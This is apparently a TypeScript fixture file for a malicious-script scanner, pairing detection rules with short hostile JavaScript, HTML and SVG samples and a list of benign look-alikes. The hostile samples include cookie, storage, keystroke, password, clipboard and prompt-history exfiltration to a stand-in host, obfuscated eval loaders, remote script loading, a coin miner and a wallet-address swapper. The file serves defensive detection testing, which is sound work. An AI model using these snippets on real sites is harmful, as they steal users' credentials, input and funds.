import type { Files } from './scanned.js';

type FoundScript = readonly [rule: string, what: string, sources: string | Files];

const EVIL = 'https://collect.example.net/c';
const page = (source: string): Files => ({ 'web/page.html': source });

export const FOUND_SCRIPTS: readonly FoundScript[] = [
  ['script_sends_store', 'cookies by fetch', `fetch("${EVIL}", {method: "POST", body: document.cookie})`],
  [
    'script_sends_store',
    'cookies in the address',
    `const c = document["cookie"];\nfetch(\`${EVIL}?\${encodeURIComponent(c)}\`)`,
  ],
  ['script_sends_store', 'a picture', `const i = new Image(); i.src = "${EVIL}?c=" + document.cookie`],
  [
    'script_sends_store',
    'a picture of a page',
    `const i = document.createElement("img"); i.setAttribute("src", "x"); i["src"] = "${EVIL}?" + btoa(document.cookie)`,
  ],
  [
    'script_sends_store',
    'a beacon with all that is stored',
    `navigator.sendBeacon("${EVIL}", JSON.stringify(localStorage))`,
  ],
  [
    'script_sends_store',
    'all that is stored, in a loop',
    `const out = {};\nfor (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k); }\nfetch("${EVIL}", {method: "POST", body: JSON.stringify(out)})`,
  ],
  [
    'script_sends_store',
    'one key of others',
    `const t = localStorage.getItem("Comfy.Settings.Token");\nfetch("${EVIL}?t=" + t)`,
  ],
  ['script_sends_store', 'a member of the storage', `fetch("${EVIL}?t=" + sessionStorage.token)`],
  [
    'script_sends_store',
    'XMLHttpRequest',
    `const x = new XMLHttpRequest();\nx.open("POST", "${EVIL}");\nx.send(document.cookie);`,
  ],
  [
    'script_sends_store',
    'a web socket',
    'const s = new WebSocket("wss://collect.example.net");\ns.onopen = () => s.send(JSON.stringify({...localStorage}))',
  ],
  [
    'script_sends_store',
    'a form',
    `const f = document.createElement("form"); f.action = "${EVIL}";\nconst i = document.createElement("input"); i.value = document.cookie; f.appendChild(i); f.submit()`,
  ],
  ['script_sends_store', 'the location', `location.href = "${EVIL}?" + document.cookie`],
  ['script_sends_store', 'the location itself', `location = "${EVIL}?" + document.cookie`],
  ['script_sends_store', 'markup', `document.body.innerHTML += \`<img src="${EVIL}?\${document.cookie}">\``],
  [
    'script_sends_store',
    'functions',
    `const read = () => document.cookie;\nfunction send(u, d) { return fetch(u, {method: "POST", body: d}) }\nsend("${EVIL}", read())`,
  ],
  [
    'script_sends_store',
    'methods',
    `class A { constructor() { this.url = "${EVIL}" }\n grab() { return document.cookie }\n go() { fetch(this.url, {body: this.grab()}) } }\nnew A().go()`,
  ],
  [
    'script_sends_store',
    'pieces of an address',
    'const u = ["https:/", "collect.example.net"].join("/");\nfetch(u, {body: document.cookie})',
  ],
  [
    'script_sends_store',
    'an encoded address',
    'const u = atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0");\nconst send = window.fetch.bind(window); send(u, {body: document.cookie})',
  ],
  [
    'script_sends_store',
    'an address that is not known',
    'fetch(atob(x), {method: "POST", body: document.cookie})',
  ],
  [
    'script_sends_store',
    'databases of others',
    `const r = indexedDB.open("firebaseLocalStorageDb");\nr.onsuccess = (e) => { e.target.result.transaction("a").objectStore("a").getAll().onsuccess = (v) => fetch("${EVIL}", {body: JSON.stringify(v.target.result)}) }`,
  ],
  ['script_sends_store', 'axios', `axios.post("${EVIL}", {c: document.cookie})`],
  ['script_sends_store', 'jQuery', `$.ajax({url: "${EVIL}", data: {c: document.cookie}})`],
  [
    'script_sends_store',
    'a handler of a page',
    page(`<img src=x onerror="fetch('${EVIL}?'+document.cookie)">`),
  ],
  [
    'script_sends_store',
    'a script of a page',
    page(`<p>a</p><script>new Image().src='${EVIL}?'+document.cookie</script>`),
  ],
  [
    'script_sends_store',
    'a picture that is code',
    {
      'web/logo.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[fetch("${EVIL}?" + document.cookie)]]></script></svg>`,
    },
  ],
  [
    'script_sends_store',
    'a handler of a picture',
    { 'a.svg': `<svg onload="fetch('${EVIL}?'+document.cookie)"/>` },
  ],
  ['script_sends_store', 'a link', page(`<a href="javascript:fetch('${EVIL}?'%2Bdocument.cookie)">a</a>`)],
  [
    'script_sends_store',
    'a page under another name',
    { 'readme.txt': `<!doctype html><script>fetch("${EVIL}?"+document.cookie)</script>` },
  ],
  [
    'script_sends_store',
    'a handler within a text',
    `el.innerHTML = '<img src=x onerror="fetch(\\'${EVIL}?\\'+document.cookie)">'`,
  ],
  ['script_sends_store', 'code within a text', `eval("fetch('${EVIL}', {body: document.cookie})")`],
  [
    'script_sends_store',
    'a background',
    `document.body.style.backgroundImage = "url(${EVIL}?" + document.cookie + ")"`,
  ],
  [
    'script_sends_store',
    'a minified bundle',
    `${'function a(b,c){return b.d(c)};'.repeat(4_000)}fetch("${EVIL}?c="+btoa(document.cookie))`,
  ],
  [
    'script_sends_typed',
    'forms',
    `document.addEventListener("submit", (e) => fetch("${EVIL}", {method: "POST", body: new FormData(e.target)}))`,
  ],
  [
    'script_sends_typed',
    'each field',
    `document.querySelectorAll("input").forEach((i) => i.addEventListener("change", () => fetch("${EVIL}?" + i.value)))`,
  ],
  [
    'script_sends_typed',
    'keys',
    `let b = "";\ndocument.addEventListener("keydown", (e) => { b += e.key });\nsetInterval(() => fetch("${EVIL}?k=" + b), 1000)`,
  ],
  [
    'script_sends_typed',
    'a handler',
    `document.onkeypress = function (e) { new Image().src = "${EVIL}?" + String.fromCharCode(e.which) }`,
  ],
  [
    'script_sends_typed',
    'fields',
    `document.addEventListener("input", (e) => navigator.sendBeacon("${EVIL}", e.target.value))`,
  ],
  [
    'script_sends_typed',
    'passwords',
    `const p = document.querySelector("input[type=password]");\nfetch("${EVIL}", {body: p.value})`,
  ],
  [
    'script_sends_typed',
    'the clipboard',
    `navigator.clipboard.readText().then((t) => fetch("${EVIL}", {method: "POST", body: t}))`,
  ],
  [
    'script_sends_prompts',
    'the history',
    `fetch("/history").then((r) => r.json()).then((h) => fetch("${EVIL}", {method: "POST", body: JSON.stringify(h)}))`,
  ],
  [
    'script_sends_prompts',
    'the graph',
    `import { app } from "../../scripts/app.js";\nasync function f() { const p = await app.graphToPrompt(); await fetch("${EVIL}", {method: "POST", body: JSON.stringify(p)}) }`,
  ],
  [
    'script_sends_prompts',
    'what is queued',
    `const q = api.queuePrompt;\napi.queuePrompt = async function (n, data) { fetch("${EVIL}", {method: "POST", body: JSON.stringify(data)}); return q.call(this, n, data) }`,
  ],
  ['script_runs_hidden_code', 'atob', 'eval(atob("YWxlcnQoMSk="))'],
  ['script_runs_hidden_code', 'new Function', 'const d = (s) => atob(s);\nnew Function("a", d("YQ=="))()'],
  ['script_runs_hidden_code', 'codes', 'eval(String.fromCharCode(97, 108, 101))'],
  [
    'script_runs_hidden_code',
    'codes in a list',
    'const c = [97, 108].map((n) => String.fromCharCode(n ^ 3)).join("");\n(0, eval)(c)',
  ],
  ['script_runs_hidden_code', 'codes by apply', 'window["eval"](String.fromCharCode.apply(null, [97, 108]))'],
  ['script_runs_hidden_code', 'percent signs', 'eval(unescape("%61%6c%65%72%74"))'],
  ['script_runs_hidden_code', 'reversed text', 'Function(")1(trela".split("").reverse().join(""))()'],
  ['script_runs_hidden_code', 'joined text', 'eval(["al", "ert", "(1)"].join(""))'],
  ['script_runs_hidden_code', 'escapes', 'eval("\\x61\\x6c\\x65\\x72\\x74(1)")'],
  ['script_runs_hidden_code', 'a timer', 'setTimeout(atob("YWxlcnQoMSk="), 10)'],
  ['script_runs_hidden_code', 'an import', 'import("data:text/javascript;base64,YWxlcnQoMSk=")'],
  [
    'script_runs_hidden_code',
    'an element',
    'const s = document.createElement("script");\ns.textContent = atob("YQ==");\ndocument.head.append(s)',
  ],
  ['script_runs_hidden_code', 'a constructor', '(() => {}).constructor(atob("YQ=="))()'],
  [
    'script_runs_hidden_code',
    'a loop',
    'let o = "";\nfor (const c of "abc") o += String.fromCharCode(c.charCodeAt(0) ^ 7);\neval(o)',
  ],
  [
    'script_runs_hidden_code',
    'hexadecimal text',
    'let o = "";\nfor (let i = 0; i < h.length; i += 2) o += String.fromCharCode(parseInt(h.substr(i, 2), 16));\nnew Function(o)()',
  ],
  ['script_runs_hidden_code', 'a page', page('<body onload="eval(atob(\'YQ==\'))">')],
  [
    'script_runs_hidden_code',
    'the address of a script',
    page('<script src="data:text/javascript;base64,YQ=="></script>'),
  ],
  [
    'script_runs_downloaded_code',
    'a reply',
    'fetch("https://code.example.net/a.js").then((r) => r.text()).then((t) => eval(t))',
  ],
  [
    'script_runs_downloaded_code',
    'a reply that is waited for',
    'const t = await (await fetch("https://code.example.net/a")).text();\nnew Function(t)()',
  ],
  [
    'script_loads_foreign_code',
    'an element',
    'const s = document.createElement("script");\ns.src = "https://code.example.net/a.js"',
  ],
  ['script_loads_foreign_code', 'an import', 'import("https://code.example.net/a.js")'],
  ['script_loads_foreign_code', 'a static import', 'import a from "https://code.example.net/a.js"'],
  ['script_loads_foreign_code', 'a page', page('<script src="//code.example.net/a.js"></script>')],
  [
    'script_loads_foreign_code',
    'a picture',
    { 'a.svg': '<svg xmlns:xlink="a"><script xlink:href="https://code.example.net/a.js"/></svg>' },
  ],
  [
    'script_loads_foreign_code',
    'a text of a page',
    'document.write(\'<script src="https://code.example.net/a.js"></script>\')',
  ],
  [
    'script_loads_foreign_code',
    'members given together',
    'Object.assign(document.createElement("script"), { src: "https://code.example.net/a.js" })',
  ],
  [
    'script_loads_from_pages',
    'the pages of a repository',
    'const s = document.createElement("script");\ns.src = "https://someone.github.io/a.js"',
  ],
  ['script_loads_library', 'a library', 'import * as T from "https://cdn.jsdelivr.net/npm/three"'],
  ['script_hides_names', 'a function', 'window["ev" + "al"]("1")'],
  ['script_hides_names', 'a store', 'const k = ["coo", "kie"].join("");\nconst a = document[k]; eval'],
  ['script_hides_names', 'a decoded name', 'globalThis[atob(x)]("1")'],
  ['script_hides_address', 'Base64', 'fetch(atob("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0")); eval'],
  [
    'script_mines_coins',
    'a miner',
    page('<script src="a.js"></script><script>new CoinHive.Anonymous("key").start()</script>'),
  ],
  ['script_mines_coins', 'a pool', 'new WebSocket("wss://xmr.pool.example.net:443")'],
  [
    'script_swaps_wallets',
    'what is copied',
    'document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "0x52908400098527886E0F7030069857D2E4169EE7"); e.preventDefault() })',
  ],
  [
    'script_swaps_wallets',
    'the clipboard',
    'setInterval(async () => { const t = await navigator.clipboard.readText(); if (/^0x/.test(t)) navigator.clipboard.writeText("0x52908400098527886E0F7030069857D2E4169EE7") }, 500)',
  ],
  [
    'script_takes_over_pages',
    'a service worker',
    'navigator.serviceWorker.register("/extensions/a/sw.js", { scope: "/" })',
  ],
  [
    'script_installs_packages',
    'a route',
    'fetch("/customnode/install/git_url", { method: "POST", body: "https://example.org/a" })',
  ],
  [
    'script_installs_packages',
    'a function of the host',
    'api.fetchApi("/v2/manager/queue/install", { method: "POST" })',
  ],
];

export const HONEST_SCRIPTS: readonly (readonly [what: string, sources: string | Files])[] = [
  [
    'a cookie for the host itself',
    'fetch("/api/x", { headers: { "X-CSRF": document.cookie.split("=")[1] } }); const u = "https://example.org/docs"',
  ],
  [
    'an own key for a service',
    'localStorage.setItem("my.key", k);\nfetch("https://api.example.org/v1", { headers: { Authorization: localStorage.getItem("my.key") } })',
  ],
  [
    'settings and a request beside',
    'const theme = localStorage.getItem("theme");\ndocument.body.className = theme;\nfetch("https://api.example.org/list")',
  ],
  [
    'decoded data',
    'const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0)); setTimeout(run, 10); function run() { eval }',
  ],
  ['code without a secret', 'const f = new Function("a", "b", "return " + "a + b"); String.fromCharCode(65)'],
  ['timers with functions', 'setTimeout(() => atob("YQ=="), 10); setInterval(tick, 5)'],
  [
    'keys of an own field',
    'field.addEventListener("keydown", (e) => { if (e.key === "Enter") fetch("https://api.example.org/search?q=" + field.value) })',
  ],
  [
    'shortcuts',
    'document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "s") fetch("https://api.example.org/a") })',
  ],
  [
    'own scripts',
    page('<script src="js/a.js"></script><script>const a = 1</script><a href="https://example.org">a</a>'),
  ],
  ['a picture', { 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="1"><path d="M0 0"/></svg>' }],
  ['an own service worker', 'navigator.serviceWorker.register("sw.js")'],
  [
    'a gift',
    'button.onclick = () => navigator.clipboard.writeText("0x52908400098527886E0F7030069857D2E4169EE7")',
  ],
  [
    'the manager itself',
    {
      'm.js': 'api.fetchApi("/customnode/install", {})',
      'a.py': '@routes.post("/customnode/install")\nasync def f(r): pass\n',
    },
  ],
  [
    'an own database',
    'const r = indexedDB.open("own");\nr.onupgradeneeded = () => r.result.createObjectStore("a");\nfetch("https://api.example.org/a", { body: r })',
  ],
  [
    'a minified library',
    `${'function a(b,c){return b.d(c)};'.repeat(4_000)}var s="";s+=String.fromCharCode(1);setTimeout(s.cb,1);x.data=atob(y);new z.constructor(x.data)`,
  ],
  ['words in comments', '// eval(atob("x")) and fetch("https://example.net" + document.cookie)\nconst a = 1'],
  ['data of a page', page('<script type="application/json">{"a": "eval(atob(1))"}</script>')],
];
